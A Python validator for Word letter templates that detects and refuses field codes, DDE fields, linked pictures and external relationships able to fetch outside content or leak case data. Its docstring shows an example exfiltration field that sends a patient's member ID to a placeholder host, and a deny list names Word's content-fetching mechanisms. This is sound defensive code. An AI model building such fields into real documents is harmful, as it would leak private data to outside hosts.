"""Field codes and links in a template that would fetch or include content from outside the letter.

A Word field is an instruction Word carries out: `INCLUDEPICTURE "http://host/x.png"` fetches a picture when the
letter is opened or its fields are updated, `INCLUDETEXT`, `LINK`, `DDE` and friends pull in other files or
programs. A template holding `INCLUDEPICTURE "http://host/{{ patient.member_id }}"` would send case data to that
host from the insurer's computer, or the advocate's. So:
- fields that fetch or include outside content are refused, wherever they are (body, headers, footers, footnotes,
  endnotes, comments: every XML part of the package), and so are relationships to anything outside the package
  but web links;
- no field instruction may hold a brace: a Jinja tag is never filled in inside a field (a link's address, a
  picture's source), even in a harmless PAGE or HYPERLINK field;
- a HYPERLINK field (or a link relationship) may point at a web page (http/https), an e-mail address or a place
  in the letter, as typed by the template's author: nothing follows a link until the reader clicks it, and a
  regulator's page is worth linking. Links to files and shared folders are refused.
Word splits one instruction over several `w:instrText` runs, and fields nest (a field's name or address can be
made by a field inside it): the pieces are joined, nested fields' text included, before anything is judged.

After rendering, `new_external` compares the letter with its template: a field or linked picture that only
appeared while rendering (raw XML printed with `|safe` or `{% autoescape false %}`) is refused too.
"""

from __future__ import annotations

import posixpath
import re
from dataclasses import dataclass, field
from typing import Any, Iterable

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
_FLDCHAR, _FLDSIMPLE, _PARAGRAPH = W + "fldChar", W + "fldSimple", W + "p"
_TEXTS = frozenset({W + "instrText", W + "delInstrText", W + "t", W + "delText"})
_WALKED = (_FLDCHAR, _FLDSIMPLE, *_TEXTS)
_CONTAINERS = {W + "body": "", W + "hdr": "", W + "ftr": "", W + "footnote": "footnote", W + "endnote": "endnote",
               W + "comment": "comment", W + "docPartBody": "building block"}
_VML = "{urn:schemas-microsoft-com:vml}*"  # legacy pictures, which can name their source in an attribute
_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

_PASTE_PICTURE = "paste the picture into the template itself (Insert > Pictures > This Device)"
_PASTE_CONTENT = "paste the content itself into the template instead of a link to it"
_REFUSED_FIELDS = {
    "INCLUDEPICTURE": f"Word fetches the picture from that address when the letter is opened or updated; {_PASTE_PICTURE}",
    "IMPORT": f"Word fetches the picture from that file or address when the letter is updated; {_PASTE_PICTURE}",
    "INCLUDETEXT": f"Word copies in the text of another file or address when the letter is updated; {_PASTE_CONTENT}",
    "INCLUDE": f"Word copies in the text of another file when the letter is updated; {_PASTE_CONTENT}",
    "LINK": f"Word pulls the content from another file or program when the letter is updated; {_PASTE_CONTENT}",
    "DDE": f"Word asks another program for the content (DDE); {_PASTE_CONTENT}",
    "DDEAUTO": f"Word asks another program for the content (DDE) when the letter is opened; {_PASTE_CONTENT}",
    "RD": "Word reads another file to build an index or table of contents; delete the field",
    "DATABASE": f"Word runs a query on a database file or server; {_PASTE_CONTENT}",
}
_LINK_KINDS = {
    "image": "a linked picture", "attachedTemplate": "an attached template", "oleObject": "a linked object (OLE)",
    "subDocument": "a subdocument", "aFChunk": "an imported document (altChunk)", "frame": "a frame's page",
    "package": "a linked package", "mailMergeSource": "a mail merge data source",
    "mailMergeHeaderSource": "a mail merge data source", "recipientData": "a mail merge recipient list",
}
_NORMAL_DOCUMENT = "make it a normal document (Mailings > Start Mail Merge > Normal Word Document)"
_LINK_ADVICE = {"image": _PASTE_PICTURE, "attachedTemplate": "attach the Normal template instead (Developer > "
                "Document Template)", "mailMergeSource": _NORMAL_DOCUMENT, "mailMergeHeaderSource": _NORMAL_DOCUMENT,
                "recipientData": _NORMAL_DOCUMENT}
_WEB_ADDRESS = re.compile(r"(https?://|mailto:|#)", re.I)
_EXTERNAL_ADDRESS = re.compile(r"[a-z][a-z0-9+.-]*:|\\\\|//", re.I)  # a scheme (http:, file:), a UNC or // path
_TOKENS = re.compile(r'"([^"]*)"|(\S+)')


@dataclass
class Field:
    """One field of a part: its name (upper case; "" when a nested field makes it), its whole instruction (the
    pieces joined, with the text of fields nested in it) and the paragraph it begins in."""

    name: str
    instruction: str
    paragraph: Any


@dataclass
class _Open:
    paragraph: Any
    own: list[str] = field(default_factory=list)  # its own instruction text before the first nested field
    pieces: list[str] = field(default_factory=list)
    nested: bool = False
    collecting: bool = True  # until its `separate` mark: after it comes the shown result


def _paragraph_of(element: Any) -> Any:
    return next(element.iterancestors(_PARAGRAPH), None)


def _name(words: str) -> str:
    first = words.split(None, 1)
    return first[0].upper() if first else ""


def fields(root: Any) -> list[Field]:
    """Every field in the XML tree `root`, simple (`w:fldSimple`) or complex (`w:fldChar` begin ... end)."""
    found: list[Field] = []
    stack: list[_Open] = []
    for element in root.iter(*_WALKED):
        tag = element.tag
        collecting = [open_field for open_field in stack if open_field.collecting]
        if tag == _FLDCHAR:
            kind = element.get(W + "fldCharType")
            if kind == "begin":
                for outer in collecting:
                    outer.nested = True
                stack.append(_Open(_paragraph_of(element)))
            elif kind == "separate" and stack:
                stack[-1].collecting = False
            elif kind == "end" and stack:
                found.append(_closed(stack.pop()))
            continue
        text = element.get(W + "instr", "") if tag == _FLDSIMPLE else (element.text or "")
        if tag == _FLDSIMPLE:
            found.append(Field(_name(text), text, _paragraph_of(element)))
        for outer in collecting:
            if tag == _FLDSIMPLE:
                outer.nested = True
            elif not outer.nested:
                outer.own.append(text)
            outer.pieces.append(text)
    return found + [_closed(open_field) for open_field in reversed(stack)]  # a field never ended still counts


def _closed(open_field: _Open) -> Field:
    own = "".join(open_field.own)
    name = _name(own) if own.strip() or not open_field.nested else ""
    return Field(name, "".join(open_field.pieces), open_field.paragraph)


def _address(instruction: str) -> str | None:
    """A HYPERLINK field's address: its first argument that is not a switch (None for a place in the letter)."""
    skip = False
    for quoted, bare in _TOKENS.findall(instruction)[1:]:
        if skip:
            skip = False
        elif bare.startswith("\\"):  # a switch (a quoted argument is never one, even a \\server path)
            skip = bare[1:2].lower() in ("l", "o", "t")  # switches with an argument: bookmark, tooltip, frame
        elif quoted or bare:
            return quoted or bare
    return None


def field_problem(item: Field) -> str | None:
    """Why this field may not stand in a template, or None."""
    if item.name in _REFUSED_FIELDS:
        return _REFUSED_FIELDS[item.name]
    if "{" in item.instruction or "}" in item.instruction:
        return ("it holds a tag or a brace; tags are never filled in inside a field code (a link's address, a "
                "picture's source), so that case details cannot leave the letter through one. Put the tag in the "
                "letter's own text, outside the field")
    if not item.name:
        return ("its name is made by another field nested inside it, so what it does cannot be checked; type the "
                "field's name (PAGE, HYPERLINK, ...) plainly")
    if item.name == "HYPERLINK":
        address = _address(item.instruction)
        if address is not None and not _WEB_ADDRESS.match(address.strip()):
            return (f"it points at {_short(address)}, which is not a web page or an e-mail address (a file or a "
                    "shared folder); link to an https:// address, or delete the link")
    return None


def _short(text: str, limit: int = 60) -> str:
    text = " ".join(text.split())
    return f'"{text if len(text) <= limit else text[: limit - 1] + "…"}"'


def part_label(part: str) -> str:
    """A part of the package as a Word user knows it."""
    base = posixpath.basename(part)
    if part == "word/document.xml":
        return "the body"
    for start, label in (("header", "a header"), ("footer", "a footer"), ("footnotes", "the footnotes"),
                         ("endnotes", "the endnotes"), ("comments", "the comments"), ("settings", "the settings")):
        if base.startswith(start):
            return f"{label} ({part})"
    return part


def _paragraph_text(paragraph: Any) -> str:
    return "".join(node.text or "" for node in paragraph.iter(W + "t"))


def where(paragraph: Any, part: str, words: bool = True) -> str:
    """Where a paragraph is in a part: "paragraph 12 of the body ("Dear reviewer…")". `words=False` leaves the
    paragraph's text out (a rendered letter's text is the person's, never printed in a message)."""
    label = part_label(part)
    if paragraph is None:
        return label
    node, parent = paragraph, paragraph.getparent()
    while parent is not None and parent.tag not in _CONTAINERS:
        node, parent = parent, parent.getparent()
    if parent is None:
        position = "a paragraph"
    else:
        siblings = [child for child in parent if child.tag == node.tag]
        kind = {_PARAGRAPH: "paragraph", W + "tbl": "table"}.get(node.tag, "block")
        position = f"{kind} {siblings.index(node) + 1}"
        if _CONTAINERS[parent.tag]:
            position += f" of {_CONTAINERS[parent.tag]} {parent.get(W + 'id', '?')}"
    text = " ".join(_paragraph_text(paragraph).split())
    quoted = f' ("{text[:49] + "…" if len(text) > 50 else text}")' if words and text else ""
    return f"{position} in {label}{quoted}"


def _linked_addresses(root: Any) -> list[tuple[Any, str]]:
    """(element, address) for every picture or fill that names an outside address in an attribute (VML's `src`,
    `o:href`) rather than a relationship."""
    found = []
    for element in root.iter(_VML):
        for name, value in element.attrib.items():
            if name.rpartition("}")[2] in ("src", "href") and _EXTERNAL_ADDRESS.match(value.strip()):
                found.append((element, value))
    return found


def part_problems(part: str, root: Any) -> list[str]:
    """Each field, linked picture or mail-merge source in one XML part that reaches outside the letter."""
    problems = []
    for item in fields(root):
        reason = field_problem(item)
        if reason:
            name = f"the {item.name} field" if item.name else "a field"
            problems.append(f"{name} in {where(item.paragraph, part)}: {reason}")
    for element, address in _linked_addresses(root):
        problems.append(f"a picture in {where(_paragraph_of(element), part)} is linked to {_short(address)} "
                        f"instead of held in the template; {_PASTE_PICTURE}")
    if root.tag == W + "settings" and root.find(W + "mailMerge") is not None:
        problems.append(f"{part_label(part)}: the template is a mail merge document with a data source, which Word "
                        f"reads when it opens the letter; {_NORMAL_DOCUMENT}")
    return problems


def relationship_problem(rels_part: str, relationship: Any) -> str | None:
    """Why a relationship of the package reaches outside the letter, or None: anything outside the package but
    a web link, and an imported document (altChunk), whose HTML or RTF Word converts with its own links."""
    kind = relationship.get("Type", "").removeprefix(_RELATIONSHIPS)
    target = relationship.get("Target", "")
    folder, base = posixpath.split(rels_part)
    source = posixpath.join(posixpath.dirname(folder), base.removesuffix(".rels")) if base != ".rels" else ""
    label = part_label(source) if source else "the package"
    if relationship.get("TargetMode") == "External":
        if kind == "hyperlink":
            if _WEB_ADDRESS.match(target.strip()):
                return None
            return (f"a link in {label} points at {_short(target)}, which is not a web page or an e-mail address "
                    "(a file or a shared folder); link to an https:// address, or delete the link")
        what = _LINK_KINDS.get(kind, "a link")
        advice = _LINK_ADVICE.get(kind, _PASTE_CONTENT)
        return (f"{what} in {label} links to {_short(target)}, outside the document, which Word would fetch; "
                f"{advice}")
    if kind == "aFChunk":
        return (f"{_LINK_KINDS[kind]} in {label} brings another document's content ({_short(target)}), which Word "
                f"converts with its own links when the letter is opened; {_PASTE_CONTENT}")
    return None


def external_marks(roots: Iterable[tuple[str, Any]]) -> dict[str, str]:
    """Every field instruction and outside address in the parts `roots` ((part name, tree)), each with what it is
    called in a message (its field name, or "a linked picture", and the part; never its text)."""
    marks: dict[str, str] = {}
    for part, root in roots:
        for item in fields(root):
            marks.setdefault(f"field:{item.instruction}",
                             f"{'the ' + item.name if item.name else 'a'} field in {where(item.paragraph, part, False)}")
        for element, address in _linked_addresses(root):
            marks.setdefault(f"address:{address}", f"a linked picture in {where(_paragraph_of(element), part, False)}")
    return marks


def new_external(template_name: str, before: dict[str, str], after: dict[str, str]) -> str | None:
    """The message for fields or linked pictures the render made that the template did not hold, or None."""
    made = [after[key] for key in after if key not in before]
    if not made:
        return None
    return (f"The template {template_name} was stopped: it made {made[0]} while the letter was written (raw XML "
            "printed into it); a template may not build field codes or links out of text. Nothing was written.")


_RENDERED = frozenset({"header", "footer", "footnotes"})  # the parts docxtpl renders beside the body


def rendered_parts(docx: Any) -> list[tuple[str, Any]]:
    """(part name, XML tree) of every part docxtpl renders: the body, headers, footers and footnotes."""
    from lxml import etree

    parts = [("word/document.xml", docx.element)]
    for relationship in docx.part.rels.values():
        if relationship.is_external or relationship.reltype.rsplit("/", 1)[-1] not in _RENDERED:
            continue
        part = relationship.target_part
        element = getattr(part, "_element", None)
        if element is None:
            parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
            element = etree.fromstring(part.blob, parser)
        parts.append((str(part.partname).lstrip("/"), element))
    return parts
